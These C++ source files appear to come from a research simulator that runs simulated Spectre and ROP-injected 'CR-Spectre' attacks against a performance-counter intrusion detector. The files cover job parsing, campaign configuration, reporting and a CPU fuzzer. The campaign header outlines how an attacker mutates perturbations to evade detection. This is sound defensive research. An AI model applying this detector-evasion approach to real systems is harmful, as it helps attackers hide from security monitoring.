    c.leak_stage = parse_bool_field(key, value);
  } else if (key == "spectre11") {
    c.spectre11 = parse_bool_field(key, value);
  } else if (key == "mitigations") {
    c.mitigations = mitigate::MitigationConfig::parse(value);
  } else if (key == "seed") {
    c.seed = parse_u64(key, value);
  } else if (key == "prof.window_cycles") {
    c.profiler.window_cycles = parse_u64(key, value);
  } else if (key == "prof.max_windows") {
    c.profiler.max_windows = parse_u64(key, value);
  } else if (key == "prof.max_instructions") {
    c.profiler.max_instructions = parse_u64(key, value);
  } else if (key == "prof.noise_sigma") {
    c.profiler.noise_sigma = parse_f64(key, value);
  } else if (key == "prof.background_intensity") {
    c.profiler.background_intensity = parse_f64(key, value);
  } else if (key == "prof.noise_seed") {
    c.profiler.noise_seed = parse_u64(key, value);
  } else {
    return false;
  }
  return true;
}

std::string hex_encode(const std::string& bytes) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(bytes.size() * 2);
  for (const unsigned char b : bytes) {
    out += kDigits[b >> 4];
    out += kDigits[b & 0xF];
  }
  return out;
}

}  // namespace

std::string job_kind_name(JobKind kind) {
  switch (kind) {
    case JobKind::kScenario:
      return "scenario";
    case JobKind::kCampaign:
      return "campaign";
    case JobKind::kMatrix:
      return "matrix";
    case JobKind::kProgram:
      return "program";
  }
  return "unknown";
}

std::string serialize_job(const JobSpec& spec) {
  std::string out = "crs-job v1\n";
  out += "kind=" + job_kind_name(spec.kind) + "\n";
  out += "id=" + std::to_string(spec.id) + "\n";
  switch (spec.kind) {
    case JobKind::kScenario:
      emit_scenario(out, spec.scenario.config);
      out += "attempts=" + std::to_string(spec.scenario.attempts) + "\n";
      break;
    case JobKind::kCampaign: {
      const CampaignConfig& c = spec.campaign.config;
      emit_scenario(out, c.scenario);
      out += "camp.attempts=" + std::to_string(c.attempts) + "\n";
      out += std::string("camp.online=") + (c.online_hid ? "1" : "0") + "\n";
      out += std::string("camp.dynamic=") +
             (c.dynamic_perturbation ? "1" : "0") + "\n";
      out += "camp.detect_threshold=" + fmt_f64(c.detect_threshold) + "\n";
      out += "camp.evade_threshold=" + fmt_f64(c.evade_threshold) + "\n";
      out += "camp.seed=" + std::to_string(c.seed) + "\n";
      out += "det.classifier=" + c.detector.classifier + "\n";
      out += "det.feature_count=" + std::to_string(c.detector.feature_count) +
             "\n";
      out += "det.seed=" + std::to_string(c.detector.seed) + "\n";
      out += "camp.corpus_windows=" +
             std::to_string(spec.campaign.corpus_windows) + "\n";
      out += "camp.corpus_seed=" + std::to_string(spec.campaign.corpus_seed) +
             "\n";
      break;
    }
    case JobKind::kMatrix: {
      const DefenseMatrixConfig& m = spec.matrix.config;
      out += "mx.attempts=" + std::to_string(m.attempts) + "\n";
      out += "mx.seed=" + std::to_string(m.seed) + "\n";
      out += "mx.host_scale=" + std::to_string(m.host_scale) + "\n";
      out += "mx.secret=" + m.secret + "\n";
      std::string presets;
      for (const auto& p : m.presets) {
        if (!presets.empty()) presets += ',';
        presets += p;
      }
      out += "mx.presets=" + presets + "\n";
      out += "mx.corpus_windows=" + std::to_string(m.corpus_windows) + "\n";
      out += "mx.overhead_repeats=" + std::to_string(m.overhead_repeats) +
             "\n";
      out += std::string("mx.quick=") + (m.quick ? "1" : "0") + "\n";
      break;
    }
    case JobKind::kProgram:
      out += "prog.max_instructions=" +
             std::to_string(spec.program.max_instructions) + "\n";
      out += std::string("prog.smc=") +
             (spec.program.writable_text ? "1" : "0") + "\n";
      out += "prog.source=" + std::to_string(spec.program.source.size()) +
             "\n";
      out += spec.program.source;
      out += "\n";
      break;
  }
  return out;
}

JobSpec parse_job(const std::string& text) {
  JobSpec spec;
  std::size_t pos = 0;
  bool have_kind = false;
  bool have_source = false;

  const auto next_line = [&]() -> std::optional<std::string> {
    if (pos >= text.size()) return std::nullopt;
    const std::size_t nl = text.find('\n', pos);
    if (nl == std::string::npos) {
      throw Error("job spec: unterminated line at offset " +
                  std::to_string(pos));
    }
    std::string line = text.substr(pos, nl - pos);
    pos = nl + 1;
    return line;
  };

  const auto header = next_line();
  if (!header || *header != "crs-job v1") {
    throw Error("job spec: missing 'crs-job v1' header");
  }

  while (const auto line_opt = next_line()) {
    const std::string& line = *line_opt;
    if (line.empty()) continue;
    const std::size_t eq = line.find('=');
    if (eq == std::string::npos) {
      throw Error("job spec: malformed line '" + line + "'");
    }
    const std::string key = line.substr(0, eq);
    const std::string value = line.substr(eq + 1);

    if (key == "kind") {
      have_kind = true;
      if (value == "scenario") {
        spec.kind = JobKind::kScenario;
      } else if (value == "campaign") {
        spec.kind = JobKind::kCampaign;
      } else if (value == "matrix") {
        spec.kind = JobKind::kMatrix;
      } else if (value == "program") {
        spec.kind = JobKind::kProgram;
      } else {
        throw Error("job spec: unknown kind '" + value + "'");
      }
      continue;
    }
    if (!have_kind) throw Error("job spec: '" + key + "' before kind");
    if (key == "id") {
      spec.id = parse_u64(key, value);
      continue;
    }

    ScenarioConfig* sc = nullptr;
    if (spec.kind == JobKind::kScenario) sc = &spec.scenario.config;
    if (spec.kind == JobKind::kCampaign) sc = &spec.campaign.config.scenario;
    if (sc != nullptr && key == "mined.source") {
      const std::uint64_t len = parse_u64(key, value);
      if (len > text.size() || pos + len + 1 > text.size()) {
        throw Error("job spec: truncated mined source (wants " +
                    std::to_string(len) + " bytes)");
      }
      sc->mined_attack_source = text.substr(pos, len);
      if (text[pos + len] != '\n') {
        throw Error("job spec: mined source not newline-terminated");
      }
      pos += len + 1;
      continue;
    }
    if (sc != nullptr && apply_scenario_key(*sc, key, value)) continue;

    if (spec.kind == JobKind::kScenario && key == "attempts") {
      spec.scenario.attempts = parse_int_field(key, value);
      continue;
    }
    if (spec.kind == JobKind::kCampaign) {
      CampaignConfig& c = spec.campaign.config;
      if (key == "camp.attempts") {
        c.attempts = parse_int_field(key, value);
      } else if (key == "camp.online") {
        c.online_hid = parse_bool_field(key, value);
      } else if (key == "camp.dynamic") {
        c.dynamic_perturbation = parse_bool_field(key, value);
      } else if (key == "camp.detect_threshold") {
        c.detect_threshold = parse_f64(key, value);
      } else if (key == "camp.evade_threshold") {
        c.evade_threshold = parse_f64(key, value);
      } else if (key == "camp.seed") {
        c.seed = parse_u64(key, value);
      } else if (key == "det.classifier") {
        c.detector.classifier = value;
      } else if (key == "det.feature_count") {
        c.detector.feature_count = parse_u64(key, value);
      } else if (key == "det.seed") {
        c.detector.seed = parse_u64(key, value);
      } else if (key == "camp.corpus_windows") {
        spec.campaign.corpus_windows = parse_u64(key, value);
      } else if (key == "camp.corpus_seed") {
        spec.campaign.corpus_seed = parse_u64(key, value);
      } else {
        throw Error("job spec: unknown campaign key '" + key + "'");
      }
      continue;
    }
    if (spec.kind == JobKind::kMatrix) {
      DefenseMatrixConfig& m = spec.matrix.config;
      if (key == "mx.attempts") {
        m.attempts = parse_int_field(key, value);
      } else if (key == "mx.seed") {
        m.seed = parse_u64(key, value);
      } else if (key == "mx.host_scale") {
        m.host_scale = parse_u64(key, value);
      } else if (key == "mx.secret") {
        m.secret = value;
      } else if (key == "mx.presets") {
        m.presets = value.empty() ? std::vector<std::string>{}
                                  : split(value, ',');
      } else if (key == "mx.corpus_windows") {
        m.corpus_windows = parse_u64(key, value);
      } else if (key == "mx.overhead_repeats") {
        m.overhead_repeats = parse_int_field(key, value);
      } else if (key == "mx.quick") {
        m.quick = parse_bool_field(key, value);
      } else {
        throw Error("job spec: unknown matrix key '" + key + "'");
      }
      continue;
    }
    if (spec.kind == JobKind::kProgram) {
      if (key == "prog.max_instructions") {
        spec.program.max_instructions = parse_u64(key, value);
        continue;
      }
      if (key == "prog.smc") {
        spec.program.writable_text = parse_bool_field(key, value);
        continue;
      }
      if (key == "prog.source") {
        const std::uint64_t len = parse_u64(key, value);
        if (len > text.size() || pos + len + 1 > text.size()) {
          throw Error("job spec: truncated program source (wants " +
                      std::to_string(len) + " bytes)");
        }
        spec.program.source = text.substr(pos, len);
        if (text[pos + len] != '\n') {
          throw Error("job spec: program source not newline-terminated");
        }
        pos += len + 1;
        have_source = true;
        continue;
      }
      throw Error("job spec: unknown program key '" + key + "'");
    }
    throw Error("job spec: unknown key '" + key + "'");
  }

  if (!have_kind) throw Error("job spec: missing kind");
  if (spec.kind == JobKind::kProgram && !have_source) {
    throw Error("job spec: program job without prog.source");
  }
  return spec;
}

// ---------------------------------------------------------------------------
// Execution.

namespace {

constexpr const char* kScenarioHeader =
    "attempt,launched,secret_recovered,recovered_hex,host_ipc,"
    "attack_windows,host_windows,sim_cycles,mitigation_events\n";

JobOutcome run_scenario_job(const ScenarioJob& job,
                            const JobProgressFn& on_progress) {
  JobOutcome out;
  const int attempts = std::max(1, job.attempts);
  out.progress.total = static_cast<std::uint64_t>(attempts);

  // Mirror run_campaign's cost-model switch: warm per-thread session when
  // the fast-reset engine is on, full per-job construction when it is off.
  // Either way attempt i is bit-identical to run_scenario with seed+i.
  std::optional<ScenarioSession> local;
  ScenarioSession* session;
  if (fast_reset_enabled()) {
    session = &thread_session(job.config);
  } else {
    local.emplace(job.config);
    session = &*local;
  }

  std::string payload = kScenarioHeader;
  for (int i = 0; i < attempts; ++i) {
    const ScenarioRun run =
        session->run_attempt(job.config.seed + static_cast<std::uint64_t>(i));
    payload += std::to_string(i + 1) + ',';
    payload += std::to_string(run.attack_launched ? 1 : 0) + ',';
    payload += std::to_string(run.secret_recovered ? 1 : 0) + ',';
    payload += hex_encode(run.recovered) + ',';
    payload += fixed(run.host_ipc, 4) + ',';
    payload += std::to_string(run.attack_windows.size()) + ',';
    payload += std::to_string(run.host_windows.size()) + ',';
    payload += std::to_string(run.profile.cycles) + ',';
    payload += std::to_string(run.mitigation.total_events()) + '\n';

    out.progress.done = static_cast<std::uint64_t>(i + 1);
    out.progress.leaks += run.secret_recovered ? 1 : 0;
    out.progress.sim_cycles += run.profile.cycles;
    if (on_progress && !on_progress(out.progress)) {
      out.cancelled = true;
      return out;
    }
  }
  out.payload = std::move(payload);
  return out;
}

JobOutcome run_campaign_job(const CampaignJob& job,
                            const JobProgressFn& on_progress) {
  JobOutcome out;
  out.progress.total = static_cast<std::uint64_t>(
      std::max(0, job.config.attempts));

  // Deterministic corpus construction from the spec — exactly what the
  // batch figure benches do before calling run_campaign.
  CorpusConfig ccfg;
  ccfg.windows_per_class = job.corpus_windows;
  ccfg.secret = job.config.scenario.secret;
  ccfg.seed = job.corpus_seed;
  const ml::Dataset benign = build_benign_corpus(ccfg);
  const ml::Dataset attack_set = build_attack_corpus(ccfg);

  CampaignConfig cfg = job.config;
  bool cancelled = false;
  cfg.on_attempt = [&](const AttemptRecord& record) {
    out.progress.done = static_cast<std::uint64_t>(record.attempt);
    out.progress.leaks += record.secret_recovered ? 1 : 0;
    out.progress.sim_cycles += record.sim_cycles;
    if (on_progress && !on_progress(out.progress)) {
      cancelled = true;
      return false;
    }
    return true;
  };

  const CampaignResult result = run_campaign(cfg, benign, attack_set);
  if (cancelled) {
    out.cancelled = true;
    return out;
  }
  out.payload = campaign_to_csv(result);
  return out;
}

JobOutcome run_matrix_job(const MatrixJob& job,
                          const JobProgressFn& on_progress) {
  JobOutcome out;
  // The matrix fans its cells out on the worker pool internally; progress
  // is reported at the sweep boundary only, and cancellation is honoured
  // before the sweep starts.
  if (on_progress && !on_progress(out.progress)) {
    out.cancelled = true;
    return out;
  }
  const DefenseMatrixResult result = run_defense_matrix(job.config);
  out.progress.total = static_cast<std::uint64_t>(result.cells.size());
  out.progress.done = out.progress.total;
  for (const auto& cell : result.cells) {
    out.progress.leaks += static_cast<std::uint64_t>(cell.leaks);
  }
  if (on_progress && !on_progress(out.progress)) {
    out.cancelled = true;
    return out;
  }
  out.payload = matrix_csv(result);
  return out;
}

JobOutcome run_program_job(const ProgramJob& job,
                           const JobProgressFn& on_progress) {
  constexpr const char* kPath = "/bin/served";
  constexpr std::uint64_t kChunk = 262'144;  // progress/cancel granularity

  const sim::Program program =
      casm::assemble(job.source + casm::runtime_library(),
                     {.name = kPath, .link_base = 0x10000});

  // Same fast-reset discipline as the fuzz differ: a per-thread machine
  // pool hands back a pristine machine instead of constructing 16 MB of
  // zeroed memory per program.
  const sim::MachineConfig mcfg;
  std::optional<sim::Machine> local;
  sim::Machine* machine;
  if (fast_reset_enabled()) {
    thread_local sim::MachinePool pool;
    machine = &pool.acquire(mcfg);
  } else {
    local.emplace(mcfg);
    machine = &*local;
  }
  sim::Kernel kernel(*machine, {});
  kernel.register_binary(kPath, program);
  kernel.start_with_strings(kPath, {kPath});

  if (job.writable_text) {
    const auto& img = kernel.main_image();
    const auto page = sim::Memory::kPageSize;
    const auto lo = img.lo / page * page;
    const auto hi = (img.hi + page - 1) / page * page;
    machine->memory().set_permissions(
        lo, hi - lo,
        static_cast<sim::Perm>(sim::kPermRead | sim::kPermWrite |
                               sim::kPermExec));
  }

  JobOutcome out;
  auto& cpu = machine->cpu();
  auto stop = sim::StopReason::kInstructionLimit;
  while (true) {
    const std::uint64_t done = cpu.retired();
    if (done >= job.max_instructions) break;
    stop = kernel.run(std::min(kChunk, job.max_instructions - done));
    out.progress.done = cpu.retired();
    out.progress.sim_cycles = cpu.cycle();
    if (on_progress && !on_progress(out.progress)) {
      out.cancelled = true;
      return out;
    }
    if (stop != sim::StopReason::kInstructionLimit) break;
  }

  std::string payload;
  switch (stop) {
    case sim::StopReason::kHalted:
      payload += "stop=halted\n";
      break;
    case sim::StopReason::kFault:
      payload += "stop=fault\n";
      break;
    default:
      payload += "stop=limit\n";
      break;
  }
  payload += "exit=" + std::to_string(kernel.exit_code()) + "\n";
  payload += "retired=" + std::to_string(cpu.retired()) + "\n";
  payload += "cycle=" + std::to_string(cpu.cycle()) + "\n";
  payload += "pc=" + hex(cpu.pc()) + "\n";
  if (stop == sim::StopReason::kFault) {
    payload +=
        "fault_kind=" + std::to_string(static_cast<int>(cpu.fault().kind)) +
        "\n";
    payload += "fault_pc=" + hex(cpu.fault().pc) + "\n";
    payload += "fault_addr=" + hex(cpu.fault().addr) + "\n";
  }
  HashBuilder regs;
  for (int r = 0; r < isa::kNumRegisters; ++r) {
    regs.u64(cpu.reg(r));
  }
  payload += "regs_fnv=" + hex(regs.digest()) + "\n";
  for (std::size_t i = 0; i < sim::kEventCount; ++i) {
    const auto e = static_cast<sim::Event>(i);
    payload += "pmu." + std::string(sim::event_name(e)) + "=" +
               std::to_string(machine->pmu().count(e)) + "\n";
  }
  payload += "output_hex=" + hex_encode(kernel.output_string()) + "\n";
  out.payload = std::move(payload);
  return out;
}

}  // namespace

JobOutcome run_job(const JobSpec& spec, const JobProgressFn& on_progress) {
  switch (spec.kind) {
    case JobKind::kScenario:
      return run_scenario_job(spec.scenario, on_progress);
    case JobKind::kCampaign:
      return run_campaign_job(spec.campaign, on_progress);
    case JobKind::kMatrix:
      return run_matrix_job(spec.matrix, on_progress);
    case JobKind::kProgram:
      return run_program_job(spec.program, on_progress);
  }
  throw Error("run_job: unknown job kind");
}

std::uint64_t job_affinity_key(const JobSpec& spec) {
  HashBuilder h;
  switch (spec.kind) {
    case JobKind::kScenario:
    case JobKind::kCampaign: {
      const ScenarioConfig& sc = spec.kind == JobKind::kScenario
                                     ? spec.scenario.config
                                     : spec.campaign.config.scenario;
      // The machine configuration the session will simulate (mitigations
      // lower onto it) — jobs sharing it can reuse a shard's warm machines —
      // plus the full session identity, so identical jobs always collide.
      sim::MachineConfig mcfg;
      sim::KernelConfig kcfg;
      sc.mitigations.apply(mcfg, kcfg);
      h.u64(sim::hash_machine_config(mcfg));
      h.u64(hash_scenario_config(sc));
      break;
    }
    case JobKind::kMatrix: {
      const DefenseMatrixConfig& m = spec.matrix.config;
      h.str("matrix").u64(m.seed).u64(m.host_scale).str(m.secret);
      h.i64(m.attempts).b(m.quick);
      for (const auto& p : m.presets) h.str(p);
      break;
    }
    case JobKind::kProgram:
      h.str("program").str(spec.program.source).b(spec.program.writable_text);
      break;
  }
  return h.digest();
}

}  // namespace crs::core
