#include "core/report.hpp"

#include <fstream>

#include "hid/features.hpp"
#include "sim/cpu.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/strings.hpp"

namespace crs::core {

std::string windows_to_csv(const std::vector<hid::WindowSample>& windows) {
  std::string out;
  for (std::size_t j = 0; j < hid::feature_universe_size(); ++j) {
    out += hid::feature_name(j);
    out += ',';
  }
  out += "injected\n";
  for (const auto& w : windows) {
    const auto f = hid::feature_vector(w.delta);
    for (const double v : f) {
      out += fixed(v, 4);
      out += ',';
    }
    out += w.injected ? '1' : '0';
    out += '\n';
  }
  return out;
}

std::string campaign_to_csv(const CampaignResult& result) {
  std::string out =
      "attempt,detection_rate,detected,evaded,mutated_after,"
      "secret_recovered,host_ipc,attack_windows,variant\n";
  for (const auto& a : result.attempts) {
    out += std::to_string(a.attempt) + ',';
    out += fixed(a.detection_rate, 4) + ',';
    out += std::to_string(a.detected ? 1 : 0) + ',';
    out += std::to_string(a.evaded ? 1 : 0) + ',';
    out += std::to_string(a.mutated_after ? 1 : 0) + ',';
    out += std::to_string(a.secret_recovered ? 1 : 0) + ',';
    out += fixed(a.host_ipc, 4) + ',';
    out += std::to_string(a.attack_window_count) + ',';
    out += '"' + a.params.describe() + "\"\n";
  }
  return out;
}

std::string bench_config_json(const std::string& mitigations) {
  std::string out = "{\"threads\":";
  out += std::to_string(resolve_thread_count());
  out += ",\"snapshot\":\"";
  out += fast_reset_enabled() ? "on" : "off";
  out += "\",\"cow\":\"";
  out += cow_enabled() ? "on" : "off";
  out += "\",\"exec\":\"";
  out += sim::exec_engine_name(sim::default_exec_engine());
  out += "\",\"mitigations\":\"";
  out += mitigations.empty() ? "none" : mitigations;
  out += "\"}";
  return out;
}

void write_text_file(const std::string& path, const std::string& content) {
  std::ofstream f(path, std::ios::binary);
  CRS_ENSURE(f.good(), "cannot open '" + path + "' for writing");
  f << content;
  CRS_ENSURE(f.good(), "write to '" + path + "' failed");
}

}  // namespace crs::core
