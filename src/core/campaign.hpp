// Attack-vs-HID campaign: the experiment behind Figs. 5 and 6.
//
// One campaign = one deployed detector facing one attacker over a series
// of attack attempts:
//
//   per attempt:
//     1. the attacker executes the scenario (standalone Spectre or
//        ROP-injected CR-Spectre with the current perturbation variant),
//     2. the HID classifies the run's attack-active windows; the fraction
//        flagged is the attempt's "accuracy" (the Fig. 5/6 y-axis),
//     3. online HID only: the defender adds the attempt's attack windows
//        (labelled by the ground truth a research testbed has) to the
//        training set and retrains — paper §II-E's online learning,
//     4. dynamic perturbation only: if the attempt was detected
//        (accuracy ≥ detect_threshold, paper: 80%), the attacker mutates
//        the perturbation parameters for the next attempt.
#pragma once

#include <cstdint>
#include <functional>
#include <vector>

#include "core/scenario.hpp"
#include "hid/detector.hpp"
#include "ml/dataset.hpp"
#include "perturb/perturb.hpp"

namespace crs::core {

struct AttemptRecord;

struct CampaignConfig {
  ScenarioConfig scenario;
  hid::DetectorConfig detector;
  bool online_hid = false;
  /// Mutate the perturbation on detection (CR-Spectre vs online HID).
  bool dynamic_perturbation = false;
  int attempts = 10;
  double detect_threshold = 0.80;  ///< paper: detected when >80%
  double evade_threshold = 0.55;   ///< paper: evaded when <=55%
  std::uint64_t seed = 5;

  /// Serial observer called once per attempt, in attempt order, after the
  /// record is folded (for the offline parallel batch: after the
  /// index-ordered collection, so hook order matches the serial campaign).
  /// Returning false stops the campaign early — the result keeps the
  /// attempts recorded so far. The campaign service streams progress frames
  /// and implements mid-flight cancellation through this hook; it must not
  /// mutate state the attempts read, and it does not participate in the
  /// result's determinism contract.
  std::function<bool(const AttemptRecord&)> on_attempt;
};

struct AttemptRecord {
  int attempt = 0;                    ///< 1-based
  double detection_rate = 0.0;        ///< the figure's "accuracy"
  /// False-positive rate on the held-out benign set (the defender's cost
  /// of online adaptation); -1 when no holdout was supplied.
  double benign_fpr = -1.0;
  bool detected = false;               ///< ≥ detect_threshold
  bool evaded = false;                 ///< ≤ evade_threshold
  bool mutated_after = false;          ///< attacker switched variants
  perturb::PerturbParams params;       ///< variant used this attempt
  bool secret_recovered = false;
  double host_ipc = 0.0;
  std::size_t attack_window_count = 0;
  /// Simulated cycles the attempt's scenario consumed (deterministic).
  std::uint64_t sim_cycles = 0;
  /// Wall-clock of the scenario run. NEVER fed into traces or the metrics
  /// registry (it would break byte-reproducibility) — surfaced only through
  /// the --bench-json reporters.
  double wall_ms = 0.0;
};

struct CampaignResult {
  std::vector<AttemptRecord> attempts;

  double mean_detection() const;
  double min_detection() const;
  double max_detection() const;
  /// Fraction of attempts at or under the evade threshold.
  double evasion_fraction() const;
};

/// Runs a campaign. `benign_train`/`attack_train` are universe-feature
/// datasets (from core::build_*_corpus) used for the detector's initial
/// training. When `benign_holdout` is non-null, every attempt also records
/// the detector's false-positive rate on it.
CampaignResult run_campaign(const CampaignConfig& config,
                            const ml::Dataset& benign_train,
                            const ml::Dataset& attack_train,
                            const ml::Dataset* benign_holdout = nullptr);

}  // namespace crs::core
