#include "fuzz/differ.hpp"

#include <algorithm>
#include <cstdio>

#include <optional>

#include "attack/spectre.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "harden/config.hpp"
#include "obs/obs.hpp"
#include "sim/snapshot.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

namespace crs::fuzz {

namespace {

std::string hex(std::uint64_t v) {
  char buf[20];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

std::uint64_t fnv1a(const sim::PmuSnapshot& s) {
  std::uint64_t h = 1469598103934665603ull;
  for (const auto v : s) {
    for (int i = 0; i < 8; ++i) {
      h ^= (v >> (8 * i)) & 0xFF;
      h *= 1099511628211ull;
    }
  }
  return h;
}

sim::Program assemble_fuzz(const std::string& source) {
  casm::AssembleOptions opt;
  opt.name = "fuzz";
  opt.link_base = 0x10000;
  return casm::assemble(source + casm::runtime_library(), opt);
}

/// Algebraic invariants checked after every run.
std::string check_invariants(sim::Machine& machine) {
  auto& cpu = machine.cpu();
  if (auto v = machine.hierarchy().check_invariants(); !v.empty()) {
    return "cache: " + v;
  }
  const auto& pmu = machine.pmu();
  const auto count = [&](sim::Event e) { return pmu.count(e); };
  using sim::Event;
  if (count(Event::kInstructions) != cpu.retired()) {
    return "pmu instructions (" + std::to_string(count(Event::kInstructions)) +
           ") != retired (" + std::to_string(cpu.retired()) + ")";
  }
  if (count(Event::kCycles) > cpu.cycle()) {
    return "pmu cycles (" + std::to_string(count(Event::kCycles)) +
           ") ahead of cpu cycle (" + std::to_string(cpu.cycle()) + ")";
  }
  const struct {
    Event miss, access;
    const char* name;
  } kLevels[] = {{Event::kL1dMisses, Event::kL1dAccesses, "l1d"},
                 {Event::kL1iMisses, Event::kL1iAccesses, "l1i"},
                 {Event::kL2Misses, Event::kL2Accesses, "l2"}};
  for (const auto& lvl : kLevels) {
    if (count(lvl.miss) > count(lvl.access)) {
      return std::string(lvl.name) + " misses (" +
             std::to_string(count(lvl.miss)) + ") exceed accesses (" +
             std::to_string(count(lvl.access)) + ")";
    }
  }
  if (count(Event::kTakenBranches) > count(Event::kBranches)) {
    return "taken branches exceed retired branches";
  }

  if constexpr (obs::kEnabled) {
    // The observability stats are bumped on the cache fast path itself, so
    // they must reconcile exactly with the PMU's attribution. L1 levels map
    // one-to-one; the L2 additionally absorbs fetch-path refills that the
    // PMU books under kL1iMisses rather than kL2Accesses.
    const auto& hier = machine.hierarchy();
    const struct {
      const sim::CacheLevelStats& stats;
      std::uint64_t accesses, misses;
      const char* name;
    } kStatLevels[] = {
        {hier.l1d().stats(), count(Event::kL1dAccesses),
         count(Event::kL1dMisses), "l1d"},
        {hier.l1i().stats(), count(Event::kL1iAccesses),
         count(Event::kL1iMisses), "l1i"},
    };
    for (const auto& lvl : kStatLevels) {
      if (lvl.stats.hits + lvl.stats.misses != lvl.accesses) {
        return std::string(lvl.name) + " stats hits+misses (" +
               std::to_string(lvl.stats.hits + lvl.stats.misses) +
               ") != pmu accesses (" + std::to_string(lvl.accesses) + ")";
      }
      if (lvl.stats.misses != lvl.misses) {
        return std::string(lvl.name) + " stats misses (" +
               std::to_string(lvl.stats.misses) + ") != pmu misses (" +
               std::to_string(lvl.misses) + ")";
      }
    }
    const auto& l2 = hier.l2().stats();
    const std::uint64_t l2_expected =
        count(Event::kL2Accesses) + count(Event::kL1iMisses);
    if (l2.hits + l2.misses != l2_expected) {
      return "l2 stats hits+misses (" + std::to_string(l2.hits + l2.misses) +
             ") != pmu L2 accesses + L1i misses (" +
             std::to_string(l2_expected) + ")";
    }
    if (l2.misses < count(Event::kL2Misses)) {
      return "l2 stats misses (" + std::to_string(l2.misses) +
             ") below pmu L2 misses (" +
             std::to_string(count(Event::kL2Misses)) + ")";
    }
  }
  if (count(Event::kRsbMispredicts) > count(Event::kReturns)) {
    return "RSB mispredicts exceed retired returns";
  }

  // Predictor state bounds: every PHT counter saturates at 3; the RSB never
  // holds more than its ring.
  const auto& pcfg = machine.config().predictor;
  const auto& pred = machine.predictor();
  for (std::uint64_t i = 0; i < pcfg.pht_entries; ++i) {
    if (pred.pht().counter(i * 8) > 3) {
      return "PHT counter " + std::to_string(i) + " left saturation range";
    }
  }
  if (pred.rsb().depth() > pcfg.rsb_entries) {
    return "RSB depth " + std::to_string(pred.rsb().depth()) +
           " exceeds capacity " + std::to_string(pcfg.rsb_entries);
  }
  return {};
}

}  // namespace

std::vector<ExecConfig> standard_configs(bool timing_blind) {
  std::vector<ExecConfig> configs;
  {
    // Baseline: the threaded-code block engine, pinned explicitly so the
    // cross-engine oracle below holds even when CRS_EXEC flips the process
    // default. Every program in every corpus is crossed against the
    // interpreter — the block translator's bit-identity gate.
    ExecConfig c;
    c.name = "blocks";
    c.machine.cpu.exec_engine = sim::ExecEngine::kBlocks;
    configs.push_back(c);
  }
  {
    ExecConfig c;
    c.name = "interp";
    c.machine.cpu.exec_engine = sim::ExecEngine::kInterp;
    configs.push_back(c);
  }
  {
    // The PR-1 decode-cache oracle, now under the engine that uses it.
    ExecConfig c;
    c.name = "interp-dcache-off";
    c.machine.cpu.exec_engine = sim::ExecEngine::kInterp;
    c.machine.cpu.decode_cache = false;
    configs.push_back(c);
  }
  if (timing_blind) {
    {
      // Tiny L1D / small L2: every latency changes, architecture must not.
      ExecConfig c;
      c.name = "l1d-tiny";
      c.arch_only = true;
      c.machine.hierarchy.l1d = {4 * 1024, 64, 2};
      c.machine.hierarchy.l2 = {64 * 1024, 64, 4};
      configs.push_back(c);
    }
    {
      ExecConfig c;
      c.name = "spec-narrow";
      c.arch_only = true;
      c.machine.cpu.max_spec_window = 4;
      configs.push_back(c);
    }
    {
      ExecConfig c;
      c.name = "spec-wide";
      c.arch_only = true;
      c.machine.cpu.max_spec_window = 192;
      c.machine.cpu.rob_window = 384;
      configs.push_back(c);
    }
  }
  return configs;
}

bool arch_comparable_event(sim::Event e) {
  using sim::Event;
  switch (e) {
    case Event::kCycles:
    case Event::kSpecInstructions:
    case Event::kSpecLoads:
    case Event::kL1dAccesses:
    case Event::kL1dMisses:
    case Event::kL1iAccesses:
    case Event::kL1iMisses:
    case Event::kL2Accesses:
    case Event::kL2Misses:
      return false;
    default:
      return true;
  }
}

ExecResult run_under_config(const sim::Program& program,
                            const ExecConfig& config, const RunLimits& limits,
                            bool writable_text) {
  // Fast-reset path: a per-thread snapshot pool hands back a machine rolled
  // to pristine state for this config instead of constructing 16 MB of
  // zeroed memory per candidate — the differ runs every program under up to
  // five configs, so the pool stays warm across the whole corpus. With fast
  // reset off, construct fresh (the legacy behaviour the differential tests
  // compare against).
  std::optional<sim::Machine> local;
  sim::Machine* mp = nullptr;
  if (crs::fast_reset_enabled()) {
    thread_local sim::MachinePool pool;
    mp = &pool.acquire(config.machine);
  } else {
    local.emplace(config.machine);
    mp = &*local;
  }
  sim::Machine& machine = *mp;
  sim::Kernel kernel(machine, config.kernel);
  if (config.prepare) config.prepare(kernel);
  kernel.register_binary("/bin/fuzz", program);
  kernel.start_with_strings("/bin/fuzz", {"fuzz"});

  if (writable_text) {
    // Self-modifying programs patch their own text. Lifting DEP bumps every
    // image page's version — identically in every config, so comparisons
    // remain valid and the decode cache still sees the bumps it must honour.
    const auto& img = kernel.main_image();
    const auto page = sim::Memory::kPageSize;
    const auto lo = img.lo / page * page;
    const auto hi = (img.hi + page - 1) / page * page;
    machine.memory().set_permissions(
        lo, hi - lo,
        static_cast<sim::Perm>(sim::kPermRead | sim::kPermWrite |
                               sim::kPermExec));
  }

  ExecResult res;
  res.config = config.name;
  auto& cpu = machine.cpu();
  auto stop = sim::StopReason::kInstructionLimit;
  while (true) {
    const std::uint64_t done = cpu.retired();
    if (done >= limits.max_instructions) break;
    const std::uint64_t budget =
        std::min(limits.stream_chunk, limits.max_instructions - done);
    stop = kernel.run(budget);
    res.stream.push_back(
        {cpu.retired(), cpu.cycle(), fnv1a(machine.pmu().snapshot())});
    if (stop != sim::StopReason::kInstructionLimit) break;
  }

  res.stop = stop;
  res.fault_kind = cpu.fault().kind;
  res.fault_pc = cpu.fault().pc;
  res.fault_addr = cpu.fault().addr;
  for (int r = 0; r < isa::kNumRegisters; ++r) {
    res.regs[static_cast<std::size_t>(r)] = cpu.reg(r);
  }
  res.pc = cpu.pc();
  res.retired = cpu.retired();
  res.cycle = cpu.cycle();
  res.exit_code = kernel.exit_code();
  res.output = kernel.output_string();
  res.pmu = machine.pmu().snapshot();
  res.invariant_failure = check_invariants(machine);
  return res;
}

std::string compare_results(const ExecResult& a, const ExecResult& b,
                            bool arch_only) {
  const auto tag = [&](const std::string& what, const std::string& va,
                       const std::string& vb) {
    return what + ": " + va + " (" + a.config + ") vs " + vb + " (" + b.config +
           ")";
  };
